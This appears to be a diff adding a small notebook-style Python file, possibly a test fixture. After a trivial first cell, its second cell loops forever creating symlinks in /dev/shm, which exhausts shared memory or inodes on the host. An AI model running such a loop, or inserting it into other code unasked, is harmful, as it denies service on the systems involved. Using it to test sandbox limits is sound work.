@@ -1,0 +1,14 @@
+# %%
+answer = 42
+
+
+def double(x):
+    return 2 * x
+
+# %%
+import itertools
+import os
+import socket
+
+for number in itertools.count():
+    os.symlink("x" * 200, f"/dev/shm/{number}")
